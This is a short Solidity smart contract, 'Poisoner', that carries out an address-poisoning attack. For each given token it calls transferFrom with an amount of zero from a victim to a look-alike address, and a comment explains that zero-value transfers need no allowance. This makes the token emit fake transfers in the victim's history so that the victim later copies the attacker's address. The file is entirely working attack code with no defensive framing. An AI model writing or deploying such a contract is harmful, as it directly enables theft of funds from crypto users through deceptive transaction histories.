// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// Address poisoning: a transfer of zero needs no allowance, so anyone can make a token emit a transfer from the victim
/// to an address that looks like one the victim paid before.
contract Poisoner {
    function poison(address[] calldata tokens, address[] calldata victims, address[] calldata lookAlikes) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            bytes memory data =
                abi.encodeWithSignature("transferFrom(address,address,uint256)", victims[i], lookAlikes[i], 0);
            (bool done, ) = tokens[i].call(data);
            require(done, "POISON: refused");
        }
    }
}
